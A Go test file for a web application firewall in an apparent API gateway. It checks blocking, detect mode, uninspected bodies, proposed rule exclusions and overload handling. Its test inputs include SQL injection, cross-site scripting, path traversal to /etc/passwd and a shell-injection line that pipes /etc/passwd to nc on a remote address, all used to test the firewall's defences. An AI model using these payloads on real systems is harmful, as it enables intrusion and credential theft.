package waf

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	"postern/internal/decision"
	"postern/internal/gate"
	"postern/internal/gatetest"
	"postern/internal/policy"
)

const pointer = "/apis/0/versions/0/waf"

// newGate compiles a firewall, in block mode and with time enough for a slow machine unless the settings say otherwise.
func newGate(t testing.TB, w policy.WAF) gate.Gate {
	t.Helper()
	if w.Mode == "" {
		w.Mode = "block"
	}
	if w.Time.Inspection == 0 {
		w.Time.Inspection = policy.Duration(mostBudget)
	}
	g, err := Compile(false, Source{ID: "orders/v1", Pointer: pointer, WAF: &w})
	if err != nil {
		t.Fatal(err)
	}
	return g
}

func get(target string) func(*gate.Exchange) {
	return func(x *gate.Exchange) {
		gatetest.Target("GET", target)(x)
		x.Header.Add("Accept", "application/json")
	}
}

func withJSON(body string) func(*gate.Exchange) { return gatetest.Content("application/json", body) }

func both(f ...func(*gate.Exchange)) func(*gate.Exchange) {
	return func(x *gate.Exchange) {
		for _, f := range f {
			f(x)
		}
	}
}

// failing is an engine that fails.
type failing struct{ engine }

func (failing) inspect(context.Context, *question) (finding, error) {
	return finding{}, errors.New("regexp: out of luck\nstack")
}

func TestFirewall(t *testing.T) {
	block := func() gate.Gate { return newGate(t, policy.WAF{}) }
	gatetest.Run(t, gatetest.Suite{
		Name:       "waf",
		New:        block,
		Pass:       withJSON(`{"item":"tea","note":"two bags, please"}`),
		PassAllocs: 1e6, // Coraza allocates thousands of times for each request
		Canaries:   []string{"CANARY-Zq81"},
		Refusals: []gatetest.Case{
			{Name: "SQL injection in the query", Setup: get("/orders/v1/orders?q=CANARY-Zq81%27%20or%201=1--%20"), Reason: decision.WAFBlocked,
				Check: func(t *testing.T, _ *gate.Exchange, v decision.Verdict) {
					for name, want := range map[string]string{"score": "5", "variable": "ARGS:q", "rules": "942100", "exclude": "rule 942100 for ARGS:q",
						"exclusion": `- {rule: 942100, variable: "ARGS:q", reason: "say why"}`} {
						if got := fact(v, name).Want; got != want && !(name == "rules" && strings.Contains(got, want)) {
							t.Errorf("%s: %q, want %q", name, got, want)
						}
					}
					if got := fact(v, "rule"); !strings.HasPrefix(got.Want, "942100 SQL Injection") || !strings.Contains(got.Want, ", in ARGS:q: AAAAAA-Aa99' or 9=9") {
						t.Errorf("the rule is told as %+v", got)
					}
					if v.Rule().Pointer != pointer {
						t.Errorf("the rule is at %s", v.Rule().Pointer)
					}
				}},
			{Name: "script in a JSON body", Setup: withJSON(`{"note":{"text":"<script>alert('CANARY-Zq81')</script>"}}`), Reason: decision.WAFBlocked,
				Check: variable("ARGS:json.note.text")},
			{Name: "path traversal in a form", Setup: gatetest.Content("application/x-www-form-urlencoded", "file=../../../../etc/passwd&k=CANARY-Zq81"),
				Reason: decision.WAFBlocked, Check: variable("ARGS:file")},
			{Name: "shell command in XML", Setup: gatetest.Content("text/xml", "<a><b>; cat /etc/passwd | nc 10.0.0.1 4444</b></a>"), Reason: decision.WAFBlocked},
			{Name: "script in a multipart field", Reason: decision.WAFBlocked, Check: variable("ARGS:note"),
				Setup: gatetest.Content("multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n<script>alert(1)</script>\r\n--b--\r\n")},
			{Name: "not what the type says", Setup: withJSON(`{"item": `), Reason: decision.WAFBlocked, Without: []string{"score", "score.got"}},
			{Name: "scanner", Setup: both(get("/orders/v1/orders"), func(x *gate.Exchange) { x.Header.Set("User-Agent", "sqlmap/1.8") }), Reason: decision.WAFBlocked},
			{Name: "another type", Setup: gatetest.Content("image/png", "\x89PNG"), Reason: decision.WAFUninspected,
				Check: told("the body is of the type 'image/png'")},
			{Name: "compressed", Setup: both(withJSON("\x1f\x8b\x08"), gatetest.Header("Content-Encoding", "gzip")), Reason: decision.WAFUninspected,
				Check: told("the body is compressed ('gzip')")},
			{Name: "too large", Setup: withJSON(`"` + strings.Repeat("x", defaultBytes) + `"`), Reason: decision.WAFUninspected,
				Check: told("the body is larger than 131072 bytes")},
			{Name: "too many arguments", Setup: withJSON("[" + strings.Repeat("1,", 1200) + "1]"), Reason: decision.WAFUninspected,
				Check: told("the request has more than 1000 arguments")},
			{Name: "too long", Setup: withJSON(`{"item":"tea"}`), Reason: decision.WAFUninspected, Check: told("the inspection took longer than 1ns"),
				New: func() gate.Gate { return newGate(t, policy.WAF{Time: policy.WAFTime{Inspection: 1}}) }},
		},
		Unknown: []gatetest.Case{
			{Name: "body not here", Setup: func(x *gate.Exchange) { x.Body = gate.AbsentBody }, Reason: decision.WAFBlocked},
		},
		Outages: []gatetest.Case{
			{Name: "engine", Setup: withJSON(`{}`), Reason: decision.WAFUnavailable, New: func() gate.Gate {
				g := *block().(*firewall)
				g.engine = failing{g.engine}
				return &g
			}},
		},
	})
}

func fact(v decision.Verdict, name string) decision.Fact {
	for _, f := range v.Facts() {
		if f.Name == name {
			return f
		}
	}
	return decision.Fact{}
}

func variable(want string) func(*testing.T, *gate.Exchange, decision.Verdict) {
	return func(t *testing.T, _ *gate.Exchange, v decision.Verdict) {
		if got := fact(v, "variable").Want; got != want {
			t.Errorf("matched %q, want %q: %v", got, want, v.Facts())
		}
	}
}

func told(want string) func(*testing.T, *gate.Exchange, decision.Verdict) {
	return func(t *testing.T, _ *gate.Exchange, v decision.Verdict) {
		if got := v.Render(decision.ToProven).Detail; got != "The request could not be inspected: "+want+"." {
			t.Errorf("callers are told %q, want %q", got, want)
		}
	}
}

// What the operator lets pass without inspection passes, with a note.
func TestUninspectedMayPass(t *testing.T) {
	g := newGate(t, policy.WAF{
		Body: &policy.WAFBody{Bytes: 100, Over: "pass", Other: "pass"}, Time: policy.WAFTime{Over: "pass"}})
	hurried := newGate(t, policy.WAF{Time: policy.WAFTime{Inspection: 1, Over: "pass"}})
	for name, c := range map[string]struct {
		g     gate.Gate
		setup func(*gate.Exchange)
		note  string
	}{
		"larger":     {g, withJSON(`"` + strings.Repeat("<script>", 100) + `"`), "the body is larger than 100 bytes"},
		"other":      {g, gatetest.Content("image/png", "<script>alert(1)</script>"), "the body is of the type 'image/png'"},
		"too long":   {hurried, withJSON(`{"q":"<script>alert(1)</script>"}`), "the inspection took longer than 1ns"},
		"arguments":  {newGate(t, policy.WAF{Body: &policy.WAFBody{Over: "pass"}}), withJSON("[" + strings.Repeat("1,", 1200) + "1]"), "the request has more than 1000 arguments"},
		"inspected":  {g, withJSON(`{"item":"tea"}`), ""},
		"no body":    {g, get("/orders/v1/orders"), ""},
		"websocket":  {g, both(get("/orders/v1/orders"), func(x *gate.Exchange) { x.Upgrade = "websocket" }), ""},
		"own suffix": {g, gatetest.Content("application/vnd.api+json; charset=utf-8", `{"data":[]}`), ""},
	} {
		x := gatetest.Exchange(c.setup)
		v := c.g.Check(t.Context(), x)
		if v.Outcome() != decision.OutcomePass || fact(v, "uninspected").Want != c.note {
			t.Errorf("%s: %s %v, noted %q, want a pass that notes %q", name, v.Outcome(), v.Facts(), fact(v, "uninspected").Want, c.note)
		}
	}
}

// A body that is not inspected is not waited for: a stream may never end.
func TestUninspectedBodiesAreNotRead(t *testing.T) {
	g := newGate(t, policy.WAF{Body: &policy.WAFBody{Other: "pass"}})
	x := gatetest.Exchange(gatetest.Header("Content-Type", "application/grpc"))
	x.Body = gatetest.BrokenBody(nil, -1, errors.New("it was read"))
	if v := g.Check(t.Context(), x); !v.Passed() {
		t.Errorf("%s %v", v.Outcome(), v.Facts())
	}
}

func TestBodiesThatCannotBeHad(t *testing.T) {
	g := newGate(t, policy.WAF{})
	for name, c := range map[string]struct {
		err  error
		want *decision.Reason
	}{
		"too slow":    {&gate.BodyError{Reason: decision.RequestTimeout}, decision.RequestTimeout},
		"caller gone": {errors.New("connection reset"), decision.ClientGone},
	} {
		x := gatetest.Exchange(gatetest.Header("Content-Type", "application/json"))
		x.Body = gatetest.BrokenBody([]byte("{"), 20, c.err)
		if v := g.Check(t.Context(), x); v.Outcome() != decision.OutcomeRefuse || v.Reason() != c.want {
			t.Errorf("%s: %s %v", name, v.Outcome(), v.Reason())
		}
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if v := g.Check(ctx, gatetest.Exchange()); v.Reason() != decision.ClientGone {
		t.Errorf("cancelled: %v", v.Reason())
	}
}

// In detect mode nothing is refused, whatever it is, and the trace says what would have been.
func TestDetectReports(t *testing.T) {
	g := newGate(t, policy.WAF{Mode: "detect"})
	broken := *g.(*firewall)
	broken.engine = failing{}
	for name, c := range map[string]struct {
		g      gate.Gate
		setup  func(*gate.Exchange)
		reason *decision.Reason
	}{
		"attack":      {g, get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"), decision.WAFBlocked},
		"uninspected": {g, gatetest.Content("image/png", "x"), decision.WAFUninspected},
		"engine":      {&broken, get("/"), decision.WAFUnavailable},
	} {
		x := gatetest.Exchange(c.setup)
		v := c.g.Check(t.Context(), x)
		if v.Outcome() != decision.OutcomeShadow || v.Reason() != c.reason || len(v.Facts()) == 0 || x.RetryAfter != 0 {
			t.Errorf("%s: %s %v %v", name, v.Outcome(), v.Reason(), v.Facts())
		}
	}
	if v := g.Check(t.Context(), gatetest.Exchange(func(x *gate.Exchange) { x.Body = gate.AbsentBody })); v.Outcome() != decision.OutcomePass {
		t.Errorf("without a body that is known: %s", v.Outcome())
	}
}

// The zero value refuses, as a gate nobody compiled must.
func TestZeroValueRefuses(t *testing.T) {
	if v := new(firewall).Check(t.Context(), gatetest.Exchange()); v.Outcome() != decision.OutcomeRefuse {
		t.Error(v.Outcome())
	}
}

// Each exclusion that a refusal proposes, written as proposed, lets the same request pass.
func TestProposedExclusionsHelp(t *testing.T) {
	for name, setup := range map[string]func() func(*gate.Exchange){
		"query": func() func(*gate.Exchange) { return get("/orders?q=1%27%20or%201=1--%20") },
		"body":  func() func(*gate.Exchange) { return withJSON(`{"q":{"R":["<script>alert(1)</script>"]}}`) },
		"header": func() func(*gate.Exchange) {
			return both(get("/"), gatetest.Header("Referer", "x' or 1=1 -- <script>alert(1)</script>"))
		},
		"cookie": func() func(*gate.Exchange) {
			return both(get("/"), gatetest.Header("Cookie", "Sid=<script>alert(1)</script>"))
		},
		"name": func() func(*gate.Exchange) { return get("/?%3Cscript%3Ealert(1)%3C/script%3E=1") },
		"path": func() func(*gate.Exchange) { return get("/../../etc/passwd") },
		"agent": func() func(*gate.Exchange) {
			return both(get("/"), func(x *gate.Exchange) { x.Header.Set("User-Agent", "sqlmap/1.8") })
		},
		"broken": func() func(*gate.Exchange) { return withJSON(`{"q":`) },
		"upload": func() func(*gate.Exchange) {
			return gatetest.Content("multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\nx\r\n--b--\r\n")
		},
		"extension": func() func(*gate.Exchange) { return get("/backup.sql") },
	} {
		w := policy.WAF{Paranoia: 2}
		v := newGate(t, w).Check(t.Context(), gatetest.Exchange(setup()))
		if v.Outcome() != decision.OutcomeRefuse {
			t.Errorf("%s: not refused", name)
			continue
		}
		for range 5 { // a rule that refuses by itself hides those behind it
			for _, f := range v.Facts() {
				if f.Name == "exclusion" {
					w.Exclusions = append(w.Exclusions, parseProposal(t, f.Want))
				}
			}
			if v = newGate(t, w).Check(t.Context(), gatetest.Exchange(setup())); v.Passed() {
				break
			}
		}
		if !v.Passed() {
			t.Errorf("%s: with %+v still %v", name, w.Exclusions, v.Facts())
		}
		for _, e := range w.Exclusions {
			if e.Variable == "" && name != "extension" && name != "upload" {
				t.Errorf("%s: the whole rule %d is excluded", name, e.Rule)
			}
		}
	}
}

// parseProposal reads a proposed line as a configuration has it.
func parseProposal(t *testing.T, line string) policy.WAFExclusion {
	t.Helper()
	doc, err := policy.Parse("x.yaml", []byte("postern: 1\napis:\n - name: a\n   versions:\n    - version: v1\n      waf:\n        exclusions:\n          "+line+"\n"))
	if err != nil {
		t.Fatalf("%s: %v", line, err)
	}
	return doc.APIs[0].Versions[0].WAF.Exclusions[0]
}

func TestTimeIsBoundedWhileInspecting(t *testing.T) {
	g := newGate(t, policy.WAF{Paranoia: 4, Time: policy.WAFTime{Inspection: policy.Duration(20 * time.Millisecond)}, Body: &policy.WAFBody{Bytes: 1 << 20}})
	var b strings.Builder
	for range 900 {
		b.WriteString(`"` + strings.Repeat("select a from b where c ", 40) + `",`)
	}
	v := g.Check(t.Context(), gatetest.Exchange(withJSON("["+b.String()+"1]")))
	if v.Reason() != decision.WAFUninspected || fact(v, "setting").Want != "time.inspection" {
		t.Errorf("%s %v", v.Outcome(), v.Facts())
	}
}

// When every processor inspects, requests wait their turn; a gateway that cannot keep up says so, which is no denial.
func TestOverload(t *testing.T) {
	g := *newGate(t, policy.WAF{}).(*firewall)
	for range cap(slots) {
		slots <- struct{}{}
	}
	taken := cap(slots)
	defer func() {
		for range taken {
			<-slots
		}
	}()
	g.patience = time.Millisecond
	x := gatetest.Exchange()
	if v := g.Check(t.Context(), x); v.Reason() != decision.WAFUnavailable || x.RetryAfter == 0 || !strings.Contains(fact(v, "fault").Want, "overloaded") {
		t.Errorf("overloaded: %v %v", v.Reason(), v.Facts())
	}
	g.patience = time.Minute
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if v := g.Check(ctx, gatetest.Exchange()); v.Reason() != decision.ClientGone {
		t.Errorf("gone while waiting: %v", v.Reason())
	}
	answer := make(chan decision.Verdict)
	go func() { answer <- g.Check(t.Context(), gatetest.Exchange()) }()
	<-slots
	taken--
	if v := <-answer; !v.Passed() {
		t.Errorf("after waiting: %v %v", v.Reason(), v.Facts())
	}
}
